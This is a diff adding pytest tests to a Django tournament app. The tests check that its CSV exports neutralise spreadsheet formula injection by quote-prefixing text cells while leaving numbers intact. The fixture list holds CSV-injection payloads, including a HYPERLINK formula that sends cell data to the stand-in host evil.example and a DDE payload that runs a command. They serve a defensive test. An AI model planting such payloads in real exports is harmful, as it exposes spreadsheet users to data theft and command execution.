@@ -9,7 +9,8 @@ import pytest
 from django.contrib.auth.models import User
 
 from tests.tournaments.dashboard.world import World, build_world
-from tournaments.models import Match, MatchSeat, MatchStatus
+from tournaments.api.csv_export import FORMULA_STARTS, CSVRenderer
+from tournaments.models import Bot, Match, MatchSeat, MatchStatus
 
 pytestmark = pytest.mark.django_db
 
@@ -24,7 +25,7 @@ def read_csv(response) -> list[dict[str, str]]:
     assert response.status_code == 200
     assert response["Content-Type"].startswith("text/csv")
     assert response["Content-Disposition"].startswith("attachment; filename=")
-    return list(csv.DictReader(io.StringIO(response.content.decode())))
+    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))
 
 
 def test_standings_download_as_csv_with_the_same_figures_as_the_json(client, world):
@@ -79,3 +80,57 @@ def test_head_to_head_is_keyed_by_bot_name_with_labelled_fields(client, world):
             theirs = next(s for s in mirrored if s["bot_name"] == opponent)
             back = theirs["head_to_head"][line["bot_name"]]
             assert (back["ahead"], back["behind"]) == (record["behind"], record["ahead"])
+
+
+HOSTILE_TEXT = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
+
+
+def test_text_a_spreadsheet_would_run_is_written_as_text_and_numbers_as_they_are(client, world):
+    # Names the API refuses today, as an older row or a staff edit could still hold them.
+    for bot, name in zip(world.bots, HOSTILE_TEXT, strict=False):
+        Bot.objects.filter(pk=bot.pk).update(name=name)
+    MatchSeat.objects.filter(match=world.finished[0], seat=0).update(score=-7)
+    url = f"/api/tournaments/{world.tournament.pk}/"
+    standings = read_csv(client.get(url + "standings/", {"download": "csv"}))
+    fixtures = read_csv(client.get(url + "fixtures/", {"download": "csv"}))
+    matches = read_csv(client.get("/api/matches/", {"download": "csv"}))
+    names = (
+        {r["bot_name"] for r in standings}
+        | {r["seat_bot_name"] for r in fixtures}
+        | {r["seat_bot_name"] for r in matches}
+    )
+    for name in HOSTILE_TEXT:
+        assert "'" + name in names and name not in names
+    cells = [v for rows in (standings, fixtures, matches) for r in rows for v in r.values()]
+    assert not [v for v in cells if v.startswith(FORMULA_STARTS) and not is_number(v)]
+    assert {r["seat_score"] for r in fixtures if int(r["id"]) == world.finished[0].pk} >= {"-7"}
+
+
+def test_every_text_cell_of_any_answer_is_made_safe_the_same_way():
+    rows = [
+        {"name": t, "score": -3, "mean": -1.5, "note": "a-b", "tags": ["=x"]} for t in HOSTILE_TEXT
+    ]
+    rendered = CSVRenderer().render({"results": [{"id": 1, "seats": rows}]}).decode()
+    read = list(csv.DictReader(io.StringIO(rendered, newline="")))
+    assert [r["seat_name"] for r in read] == ["'" + t for t in HOSTILE_TEXT]
+    assert {(r["seat_score"], r["seat_mean"], r["seat_note"]) for r in read} == {
+        ("-3", "-1.5", "a-b")
+    }
+    assert {r["seat_tags"] for r in read} == {"['=x']"}
+    error = CSVRenderer().render({"error": {"code": "invalid", "message": "=1+1"}}).decode()
+    assert error.splitlines() == ["code,message", "invalid,'=1+1"]
